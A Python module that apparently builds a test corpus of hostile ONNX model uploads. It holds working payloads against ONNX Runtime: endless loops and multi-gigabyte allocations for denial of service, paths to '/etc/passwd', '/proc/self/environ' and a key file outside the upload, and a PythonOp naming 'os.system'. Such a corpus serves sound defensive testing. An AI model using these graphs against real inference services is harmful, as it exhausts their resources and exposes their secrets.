"""Hostile ONNX graphs: each needs far more resources than its size, or tries to read or show foreign data.

All of them take images of shape (N, 1, 4, 4) and declare three logits.
"""

from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from itertools import pairwise
from typing import Any

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

CANARY = b"canary-5f1d7c0e9b3a4826"
"""Represents a secret key; no message, log or audit entry may contain it, as text or as numbers."""
CANARY_NUMBERS = ",".join(map(str, CANARY[:4]))
"""The canary as printed in a shape."""
_SHAPE = ["N", 1, 4, 4]


@dataclass(frozen=True)
class HostileGraph:
    """One upload.

    Attributes:
        content: the ONNX file.
        external_data: additional files, by name.
    """

    content: bytes
    external_data: dict[str, bytes] = field(default_factory=dict)


def _model(
    nodes: Sequence[onnx.NodeProto],
    constants: dict[str, np.ndarray] | None = None,
    *,
    functions: Sequence[onnx.FunctionProto] = (),
    domains: Sequence[str] = (),
    opset: int = 18,
) -> onnx.ModelProto:
    """A graph whose `nodes` compute `extra`, a number that is added to the logits."""
    honest = [
        helper.make_node("Flatten", ["image"], ["pixels"]),
        helper.make_node("MatMul", ["pixels", "weights"], ["sums"]),
        helper.make_node("ReduceMax", ["extra"], ["number"], keepdims=0),
        helper.make_node("Add", ["sums", "number"], ["logits"]),
    ]
    weights = (np.arange(48) % 7 - 3).reshape(16, 3).astype(np.float32) / 8
    arrays = {"weights": weights, **(constants or {})}
    graph = helper.make_graph(
        [*nodes, *honest],
        "graph",
        [helper.make_tensor_value_info("image", TensorProto.FLOAT, _SHAPE)],
        [helper.make_tensor_value_info("logits", TensorProto.FLOAT, ["N", 3])],
        [numpy_helper.from_array(array, name) for name, array in arrays.items()],
    )
    opsets = [helper.make_opsetid(domain, opset if domain == "" else 1) for domain in ("", *domains)]
    return helper.make_model(graph, opset_imports=opsets, ir_version=10, functions=functions)


def _node(kind: str, inputs: Sequence[str], **attributes: Any) -> onnx.NodeProto:
    return helper.make_node(kind, inputs, ["extra"], **attributes)


def endless_loop() -> HostileGraph:
    """A `Loop` of 2**62 iterations."""
    number = helper.make_tensor_value_info
    body = helper.make_graph(
        [
            helper.make_node("Identity", ["go"], ["on"]),
            helper.make_node("Add", ["state", "state"], ["next"]),
        ],
        "body",
        [
            number("turn", TensorProto.INT64, []),
            number("go", TensorProto.BOOL, []),
            number("state", TensorProto.FLOAT, [1]),
        ],
        [number("on", TensorProto.BOOL, []), number("next", TensorProto.FLOAT, [1])],
    )
    loop = _node("Loop", ["turns", "true", "start"], body=body)
    constants = {"turns": np.array(2**62), "true": np.array(True), "start": np.zeros(1, np.float32)}
    return HostileGraph(_model([loop], constants).SerializeToString())


def long_scan() -> HostileGraph:
    """A `Scan` over 100 million steps."""
    number = helper.make_tensor_value_info
    body = helper.make_graph(
        [
            helper.make_node("Add", ["state", "step"], ["next"]),
            helper.make_node("Identity", ["step"], ["made"]),
        ],
        "body",
        [number("state", TensorProto.FLOAT, []), number("step", TensorProto.FLOAT, [])],
        [number("next", TensorProto.FLOAT, []), number("made", TensorProto.FLOAT, [])],
    )
    nodes = [
        helper.make_node("ConstantOfShape", ["length"], ["steps"]),
        helper.make_node("Scan", ["start", "steps"], ["extra", "all"], body=body, num_scan_inputs=1),
    ]
    constants = {"length": np.array([10**8]), "start": np.zeros((), np.float32)}
    return HostileGraph(_model(nodes, constants).SerializeToString())


def constant_of_4_gb() -> HostileGraph:
    """`ConstantOfShape`: 4 GB from 8 bytes."""
    node = _node("ConstantOfShape", ["length"])
    return HostileGraph(_model([node], {"length": np.array([2**30])}).SerializeToString())


def expanded_to_8_gb() -> HostileGraph:
    """`Expand`: 8 GB from one number."""
    node = _node("Expand", ["one", "length"])
    constants = {"one": np.ones(1, np.float32), "length": np.array([2**31])}
    return HostileGraph(_model([node], constants).SerializeToString())


def tiled_to_8_gb() -> HostileGraph:
    """`Tile`: 8 GB from one number."""
    node = _node("Tile", ["one", "length"])
    constants = {"one": np.ones(1, np.float32), "length": np.array([2**31])}
    return HostileGraph(_model([node], constants).SerializeToString())


def random_of_4_gb() -> HostileGraph:
    """`RandomNormal`: 4 GB from an attribute."""
    return HostileGraph(_model([_node("RandomNormal", [], shape=[2**30])]).SerializeToString())


def _length_by_pixels(large: int) -> tuple[list[onnx.NodeProto], dict[str, np.ndarray]]:
    """Nodes and constants of `length`: 1, for an image with a white pixel 1 + large."""
    nodes = [
        helper.make_node("ReduceMax", ["image"], ["brightest"], keepdims=0),
        helper.make_node("Floor", ["brightest"], ["white"]),
        helper.make_node("Mul", ["white", "large"], ["many"]),
        helper.make_node("Cast", ["many"], ["whole"], to=TensorProto.INT64),
        helper.make_node("Add", ["whole", "one"], ["length"]),
    ]
    return nodes, {"large": np.array(large, np.float32), "one": np.array([1])}


def size_by_pixels() -> HostileGraph:
    """Small for grey images; 4 GB for an image with a white pixel."""
    nodes, constants = _length_by_pixels(2**30)
    return HostileGraph(_model([*nodes, _node("ConstantOfShape", ["length"])], constants).SerializeToString())


def size_by_pixels_in_reverse() -> HostileGraph:
    """The same with its nodes in reverse order, which ONNX Runtime accepts."""
    model = onnx.load_from_string(size_by_pixels().content)
    nodes = list(model.graph.node)
    del model.graph.node[:]
    model.graph.node.extend(reversed(nodes))
    return HostileGraph(model.SerializeToString())


def window_by_pixels() -> HostileGraph:
    """`STFT`: 17 s and 2 GB for an image with a white pixel."""
    nodes, constants = _length_by_pixels(2**14 - 1)
    nodes += [
        helper.make_node("Squeeze", ["length"], ["window"]),
        helper.make_node("STFT", ["signal", "step", "", "window"], ["spectrum"], onesided=0),
        _node("ReduceMax", ["spectrum"], keepdims=0),
    ]
    constants |= {"signal": np.ones((1, 2**15, 1), np.float32), "step": np.array(1)}
    return HostileGraph(_model(nodes, constants).SerializeToString())


def _branch_by_pixels(costly: Sequence[onnx.NodeProto], **constants: np.ndarray) -> HostileGraph:
    """An `If` with a branch that makes `number` of `brightest`, for an image with a white pixel."""
    number = helper.make_tensor_value_info("number", TensorProto.FLOAT, None)
    cheap = [helper.make_node("Identity", ["white"], ["number"])]
    nodes = [
        helper.make_node("ReduceMax", ["image"], ["brightest"], keepdims=0),
        helper.make_node("GreaterOrEqual", ["brightest", "white"], ["is_white"]),
        _node(
            "If",
            ["is_white"],
            then_branch=helper.make_graph(costly, "costly", [], [number]),
            else_branch=helper.make_graph(cheap, "cheap", [], [number]),
        ),
    ]
    constants |= {"white": np.array(1, np.float32)}
    return HostileGraph(_model(nodes, constants, opset=20).SerializeToString())


def branch_by_pixels() -> HostileGraph:
    """4 GB in a branch, for an image with a white pixel."""
    costly = [
        helper.make_node("Expand", ["brightest", "size"], ["copies"]),
        helper.make_node("ReduceMax", ["copies"], ["number"], keepdims=0),
    ]
    return _branch_by_pixels(costly, size=np.array([2**30]))


def text_by_pixels() -> HostileGraph:
    """3 GB of text in a branch: operators on text allocate outside of ONNX Runtime's arena."""
    doubled = [
        helper.make_node("StringConcat", [f"text{i}", f"text{i}"], [f"text{i + 1}"]) for i in range(31)
    ]
    costly = [
        helper.make_node("Cast", ["brightest"], ["text0"], to=TensorProto.STRING),
        *doubled,
        helper.make_node("Equal", ["text31", "text0"], ["is_short"]),
        helper.make_node("Cast", ["is_short"], ["number"], to=TensorProto.FLOAT),
    ]
    return _branch_by_pixels(costly)


def hanging_by_pixels() -> HostileGraph:
    """One operator of minutes in a branch, which ONNX Runtime cannot stop."""
    costly = [
        helper.make_node("Expand", ["brightest", "size"], ["large"]),
        helper.make_node("AveragePool", ["large"], ["means"], kernel_shape=[1500, 1500]),
        helper.make_node("ReduceMax", ["means"], ["number"], keepdims=0),
    ]
    return _branch_by_pixels(costly, size=np.array([1, 1, 3000, 3000]))


def loop_named_as_function() -> HostileGraph:
    """A function named `Loop`, in whose place ONNX Runtime runs its own endless `Loop`."""
    model = onnx.load_from_string(endless_loop().content)
    node = helper.make_node("Identity", ["state"], ["result"])
    opsets = [helper.make_opsetid("", 18)]
    model.functions.append(
        helper.make_function("", "Loop", ["turns", "go", "state"], ["result"], [node], opsets)
    )
    return HostileGraph(model.SerializeToString())


def nested_functions() -> HostileGraph:
    """Thirty functions, each of which calls the previous one twice: 2**30 nodes."""
    functions = []
    for level in range(30):
        kind, domain = ("Identity", "") if level == 0 else (f"f{level - 1}", "own")
        nodes = [
            helper.make_node(kind, ["x"], ["y"], domain=domain),
            helper.make_node(kind, ["y"], ["z"], domain=domain),
        ]
        opsets = [helper.make_opsetid("", 18), helper.make_opsetid("own", 1)]
        functions.append(helper.make_function("own", f"f{level}", ["x"], ["z"], nodes, opsets))
    nodes = [helper.make_node("f29", ["image"], ["extra"], domain="own")]
    return HostileGraph(_model(nodes, functions=functions, domains=["own"]).SerializeToString())


def calls_itself() -> HostileGraph:
    """A function that calls itself."""
    node = helper.make_node("f", ["x"], ["y"], domain="own")
    opsets = [helper.make_opsetid("", 18), helper.make_opsetid("own", 1)]
    function = helper.make_function("own", "f", ["x"], ["y"], [node], opsets)
    call = helper.make_node("f", ["image"], ["extra"], domain="own")
    return HostileGraph(_model([call], functions=[function], domains=["own"]).SerializeToString())


def many_nodes() -> HostileGraph:
    """300,000 nodes, one after the other."""
    names = ["image", *(f"n{number}" for number in range(300_000)), "extra"]
    nodes = [helper.make_node("Abs", [a], [b]) for a, b in pairwise(names)]
    return HostileGraph(_model(nodes).SerializeToString())


def empty_nodes() -> HostileGraph:
    """Four million empty nodes in 8 MB."""
    nodes = b"\x0a\x00" * 4_000_000
    return HostileGraph(b"\x08\x0a\x3a" + _varint(len(nodes)) + nodes)


def sparse_of_8_gb() -> HostileGraph:
    """A sparse weight of one number that takes 8 GB as a dense array."""
    model = _model([_node("Identity", ["hollow"])])
    values = numpy_helper.from_array(np.ones(1, np.float32), "hollow")
    places = numpy_helper.from_array(np.zeros(1, np.int64), "places")
    model.graph.sparse_initializer.append(helper.make_sparse_tensor(values, places, [2**31]))
    return HostileGraph(model.SerializeToString())


def unknown_operator() -> HostileGraph:
    """An operator of a domain that requires a library."""
    node = helper.make_node("Steal", ["image"], ["extra"], domain="evil")
    return HostileGraph(_model([node], domains=["evil"]).SerializeToString())


def runs_python() -> HostileGraph:
    """An operator of some builds of ONNX Runtime that calls Python."""
    node = helper.make_node("PythonOp", ["image"], ["extra"], domain="com.microsoft", func_name="os.system")
    return HostileGraph(_model([node], domains=["com.microsoft"]).SerializeToString())


def opens_a_library() -> HostileGraph:
    """A node with the path of a compiled program for an accelerator."""
    node = helper.make_node(
        "EPContext",
        ["image"],
        ["extra"],
        domain="com.microsoft",
        embed_mode=0,
        ep_cache_context="/etc/passwd",
    )
    return HostileGraph(_model([node], domains=["com.microsoft"]).SerializeToString())


def _referring(location: str, **entries: str) -> onnx.ModelProto:
    """A graph with the content of a file as the shape of a reshape, which an error message might print."""
    model = _model(
        [
            helper.make_node("Cast", ["secret"], ["shape"], to=TensorProto.INT64),
            helper.make_node("Reshape", ["weights", "shape"], ["extra"]),
        ],
        {"secret": np.frombuffer(CANARY[:4], np.uint8)},
    )
    tensor = next(one for one in model.graph.initializer if one.name == "secret")
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in {"location": location, **entries}.items():
        tensor.external_data.add(key=key, value=value)
    return model


def group_key_beside() -> HostileGraph:
    """Weights in a file of the service's working folder."""
    return HostileGraph(_referring("data/group.key", length="4").SerializeToString())


def group_key_above() -> HostileGraph:
    """Weights in a file outside of the upload."""
    return HostileGraph(_referring("../../data/group.key", length="4").SerializeToString())


def process_environment() -> HostileGraph:
    """Weights in a file of the kernel with passwords."""
    return HostileGraph(_referring("/proc/self/environ", length="4").SerializeToString())


def secret_as_shape() -> HostileGraph:
    """Content of the upload that ONNX Runtime's error message prints as a shape."""
    return HostileGraph(_referring("w", length="4").SerializeToString(), {"w": CANARY})


def secret_as_output_shape() -> HostileGraph:
    """Content of the upload that becomes the inferred shape of the output."""
    model = _referring("w", length="4")
    del model.graph.node[1:]
    model.graph.node.append(helper.make_node("ConstantOfShape", ["shape"], ["logits"]))
    model.graph.output[0].type.tensor_type.ClearField("shape")
    return HostileGraph(model.SerializeToString(), {"w": CANARY})


def deep_nesting() -> HostileGraph:
    """A protobuf message with 2,000 levels of nesting."""
    content = b""
    for _ in range(2000):
        content = b"\x3a" + _varint(len(content)) + content
    return HostileGraph(content)


def _varint(number: int) -> bytes:
    found = b""
    while True:
        number, low = number >> 7, number & 127
        found += bytes([low | 128 if number else low])
        if not number:
            return found


CORPUS: dict[str, Callable[[], HostileGraph]] = {
    make.__name__: make
    for make in (
        endless_loop,
        long_scan,
        constant_of_4_gb,
        expanded_to_8_gb,
        tiled_to_8_gb,
        random_of_4_gb,
        size_by_pixels,
        size_by_pixels_in_reverse,
        window_by_pixels,
        branch_by_pixels,
        loop_named_as_function,
        nested_functions,
        calls_itself,
        many_nodes,
        empty_nodes,
        sparse_of_8_gb,
        unknown_operator,
        runs_python,
        opens_a_library,
        group_key_beside,
        group_key_above,
        process_environment,
        secret_as_shape,
        secret_as_output_shape,
        deep_nesting,
    )
}
